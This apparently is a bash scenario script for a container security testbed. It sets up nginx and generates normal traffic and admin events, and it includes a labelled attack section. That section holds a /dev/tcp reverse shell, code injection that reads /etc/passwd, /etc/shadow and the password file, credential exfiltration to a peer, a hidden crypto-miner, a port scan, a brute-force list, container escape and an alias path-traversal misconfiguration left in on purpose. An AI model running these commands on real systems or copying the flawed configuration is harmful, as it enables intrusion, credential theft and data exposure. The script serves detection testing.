# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# nginx as a web server and reverse proxy: pages, files, a password, a cache, uploads by WebDAV, TLS.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(nginx) port=80 data_directory=/srv/www
configuration_file=/etc/nginx/nginx.conf
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1/)
image_packages=(nginx-light curl bash coreutils findutils gzip dash base-files libc-bin logrotate tzdata
	hostname)
rare_own=(new_site new_page certificate reload_command broken_configuration upstream_gone upstream_slow
	cache_removed large_body)

image_prepare() {
	local tree=$1 i site=$1/srv/www/site
	mkdir -p "$site"/{docs,files} "$tree"/srv/www/{assets,backup,private,uploads} \
		"$tree"/var/{log,lib,cache}/nginx "$tree"/etc/nginx/{tls,sites.d}
	for i in $(seq 40); do
		printf '<html><body><h1>Page %d</h1>%s</body></html>\n' "$i" "$(seq $((i * i)))" >"$site/docs/page$i.html"
		echo "private page $i" >"$tree/srv/www/private/page$i.html"
	done
	for i in 1 4 16 64 600 3000; do
		head -c "${i}K" /dev/urandom >"$site/files/$i.bin"
	done
	for i in a b c d; do
		seq 500 >"$tree/srv/www/assets/$i.css"
	done
	echo '<html><!--# include virtual="/docs/page1.html" --></html>' >"$site/index.html"
	echo 'admin:hash-of-the-administrator' >"$tree/srv/www/backup/users.sql"
	printf 'user:{PLAIN}secret\neditor:{PLAIN}winter\n' >"$tree/etc/nginx/users"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/nginx/tls/key.pem" -out "$tree/etc/nginx/tls/cert.pem" 2>/dev/null
	chown -R 33:33 "$tree/srv/www/uploads"
	nginx_configuration >"$tree/etc/nginx/nginx.conf"
}

# The location of the assets has a well-known mistake: no slash at its end, but one at the alias' end.
nginx_configuration() {
	cat <<-'CONF'
	user www-data;
	worker_processes 2;
	pid /run/nginx.pid;
	error_log /var/log/nginx/error.log;
	events { worker_connections 256; }
	http {
	  include mime.types;
	  sendfile on;
	  gzip on;
	  gzip_types text/css;
	  log_format timed '$remote_addr [$time_local] "$request" $status $body_bytes_sent $request_time';
	  access_log /var/log/nginx/access.log timed;
	  client_max_body_size 4m;
	  client_body_buffer_size 16k;
	  open_file_cache max=100 inactive=10s;
	  limit_req_zone $binary_remote_addr zone=slow:1m rate=200r/s;
	  proxy_cache_path /var/cache/nginx/proxy keys_zone=cache:1m inactive=20s;
	  upstream application { server peer.example:8000; keepalive 4; }
	  include /etc/nginx/sites.d/*.conf;
	  server {
	    listen 80;
	    listen 443 ssl http2;
	    ssl_certificate tls/cert.pem;
	    ssl_certificate_key tls/key.pem;
	    ssl_session_cache shared:tls:1m;
	    root /srv/www/site;
	    error_page 404 /docs/page1.html;
	    location / { ssi on; }
	    location /files/ { autoindex on; }
	    location /assets { alias /srv/www/assets/; expires 1h; }
	    location /private/ { auth_basic "private"; auth_basic_user_file users; alias /srv/www/private/; }
	    location /uploads/ {
	      auth_basic "uploads"; auth_basic_user_file users;
	      alias /srv/www/uploads/;
	      dav_methods PUT DELETE MKCOL COPY MOVE;
	      create_full_put_path on;
	    }
	    location /moved/ { return 301 /docs/page1.html; }
	    location /status { stub_status; }
	    location /app/ {
	      limit_req zone=slow burst=20;
	      proxy_pass http://application/; proxy_http_version 1.1; proxy_set_header Connection "";
	    }
	    location /cached/ { proxy_pass http://application/; proxy_cache cache; proxy_cache_valid 10s; }
	  }
	}
	CONF
}

# container_fields CONTAINER: what differs from container_defaults().
container_fields() {
	arguments=(/usr/sbin/nginx -g 'daemon off;')
	volumes=(/var/log/nginx)
}

# Programs that the containers talk to.
peers() {
	upstream_start
}

upstream_start() {
	peer_start upstream python3 -m http.server --bind "$peer_address" --directory /usr/share 8000
}

ready() {
	fetch / -o /dev/null
}

# ---- ordinary work ----

request() {
	local n
	n=$(between 1 40)
	case $((RANDOM % 16)) in
	0 | 1 | 2) fetch "/docs/page[1-$n].html" -o /dev/null ;;
	3) fetch "/files/$((4 ** (RANDOM % 4))).bin" -o /dev/null ;;
	4) fetch /files/3000.bin -H 'Range: bytes=1000-900000' -o /dev/null ;;
	5) fetch / --compressed -o /dev/null ;;
	6) fetch /files/ -o /dev/null ;;
	7) fetch "/none/$RANDOM" -o /dev/null ;;
	8) fetch "/private/page$n.html" -u "user:$(pick secret secret wrong)" -o /dev/null ;;
	9) fetch /moved/ -L -o /dev/null ;;
	10) fetch "/$(pick app cached)/dict/" -o /dev/null ;;
	11) client ab -q -r -c "$(between 1 8)" -n "$((n * 4))" -k "http://$own_address/docs/page$n.html" ;;
	12) fetch "/assets/$(pick a b c d).css" --compressed -o /dev/null ;;
	13 | 14) dav_request "$n" ;;
	15) fetch /status -o /dev/null ;;
	esac
	[ $((RANDOM % 8)) != 0 ] || client curl -sSk -o /dev/null "https://$own_address/docs/page$n.html"
}

# dav_request NUMBER
dav_request() {
	case $((RANDOM % 5)) in
	0 | 1) head -c "$(between 100 60000)" /dev/zero | dav_put "/uploads/file$1.bin" ;;
	2) fetch "/uploads/file$1.bin" -u editor:winter -o /dev/null ;;
	3) fetch "/uploads/file$1.bin" -u editor:winter -X DELETE -o /dev/null ;;
	4) fetch "/uploads/file$1.bin" -u editor:winter -X MOVE -o /dev/null \
		-H "Destination: http://$own_address/uploads/moved$1.bin" ;;
	esac
}

# dav_put PATH: what comes on standard input.
dav_put() {
	client_stdin curl -sS --max-time 20 -u editor:winter -o /dev/null -T - "http://$own_address$1"
}

reload_service() {
	container_signal nginx HUP
}

administer() {
	local logs
	logs=$(volume_path nginx /var/log/nginx)
	mv "$logs/access.log" "$logs/access.log.1"
	container_signal nginx USR1
	reload_service
}

# ---- rare events ----

rare_new_site() {
	keep_file nginx /etc/nginx/sites.d/new.conf
	undo reload_service
	printf 'server { listen 81; root /srv/www/site/docs; }\n' >"$(image_path nginx /etc/nginx/sites.d/new.conf)"
	reload_service
	sleep 2
	client curl -sS -o /dev/null "http://$own_address:81/page1.html"
}

rare_new_page() {
	keep_file nginx /srv/www/site/docs/news.html
	echo '<html>new</html>' >"$(image_path nginx /srv/www/site/docs/news.html)"
	fetch /docs/news.html -o /dev/null
}

rare_certificate() {
	certificate_renew nginx /etc/nginx/tls
	reload_service
}

# As administrators do it who work in the container.
rare_reload_command() {
	session nginx /usr/sbin/nginx -t
	session nginx /usr/sbin/nginx -s reload
}

# It goes on with the configuration that it has.
rare_broken_configuration() {
	local file
	file=$(image_path nginx /etc/nginx/sites.d/broken.conf)
	echo 'server { listen 82; root' >"$file"
	reload_service
	sleep 2
	rm "$file"
	reload_service
}

rare_upstream_gone() {
	peer_stop upstream
	sleep 12
	upstream_start
}

# It takes connections and says nothing.
rare_upstream_slow() {
	peer_stop upstream
	peer_start upstream socat "TCP-LISTEN:8000,bind=$peer_address,reuseaddr,fork" 'SYSTEM:sleep 8'
	sleep 10
	peer_stop upstream
	upstream_start
}

rare_cache_removed() {
	session nginx /bin/sh -c 'rm -rf /var/cache/nginx/proxy/*'
}

# More than is taken; and a transfer that ends in its middle.
rare_large_body() {
	head -c 6000000 /dev/zero | dav_put /uploads/large.bin
	head -c 3000000 /dev/zero | dav_put /uploads/large.bin
	client curl -sS --limit-rate 100k --max-time 2 -o /dev/null "http://$own_address/files/3000.bin"
}

# ---- attacks ----

# worker_shell COMMANDS: code inside a worker, as after an overflow, starts a shell.
worker_shell() {
	inject nginx 'nginx: worker' "call (int) system(\"${1//$'\n'/ }\")"
}

attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	worker_shell 'id >/tmp/out; cat /etc/passwd /etc/nginx/users >>/tmp/out'
	grep -q uid=33 "$(image_path nginx /tmp/out)"
}

# Code inside the master, which is root: reads what only root may.
attack_code_shadow() {
	harm read /etc/shadow
	inject nginx 'nginx: master' 'print (int) open("/etc/shadow", 0)' | grep -qE '= [0-9]+'
}

# Code inside a worker sends the passwords away; no program is started.
attack_code_connect() {
	harm read /etc/nginx/users
	harm connect "$peer_address:4444"
	thief_begin
	code_sends "$(tasks_named nginx 'nginx: worker' | head -n 1)" /etc/nginx/users 4444
	thief_got editor
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_shell 'id; ls /srv/www; exit'
	worker_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got uid=33
}

attack_traversal() {
	harm read /srv/www/backup/users.sql
	fetch /assets../backup/users.sql --path-as-is | grep -q hash-of
}

attack_brute_force() {
	local p
	harm read /srv/www/private/page7.html
	for p in 123456 password qwerty letmein dragon monkey {1..100} football iloveyou master summer winter; do
		! fetch /private/page7.html -u "editor:$p" | grep -q 'private page' || return 0
	done
	return 1
}

attack_miner() {
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	worker_shell "$(miner_commands /tmp/.kworkerd)"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	# shellcheck disable=SC2016 # the container's shell
	worker_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5432 6379 8000 8080 {9000..9100}; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo \$p; done >/tmp/open 2>/dev/null'"
	grep -qx 8000 "$(image_path nginx /tmp/open)"
}

# Ways out of a container, each tried by code inside the master.
attack_escape() {
	code_escapes "${container_pid[nginx]}"
}

# Every page, and every upload, by one who has the password.
adaptive_crawl() {
	local n
	harm read '/srv/www/private/page*.html'
	for n in $(seq 40); do
		fetch "/private/page$n.html" -u user:secret
	done | grep -c 'private page' | grep -qx 40
	fetch /files/3000.bin -o /dev/null
}

# All uploads are written anew, by one who may.
adaptive_tamper() {
	local n
	harm rename '/srv/www/uploads/file*.bin'
	for n in $(seq 40); do
		echo defaced | dav_put "/uploads/file$n.bin"
	done
	fetch /uploads/file7.bin -u editor:winter | grep -q defaced
}

# Code inside a worker sends the passwords to the upstream, by calls that every worker makes.
adaptive_upstream() {
	harm read /etc/nginx/users
	harm connect "$peer_address:8000"
	code_sends "$(tasks_named nginx 'nginx: worker' | head -n 1)" /etc/nginx/users 8000
	# Its log has the first line, which is no request.
	until_true 10 grep -q 'PLAIN' "$stage/peer-upstream.log"
}
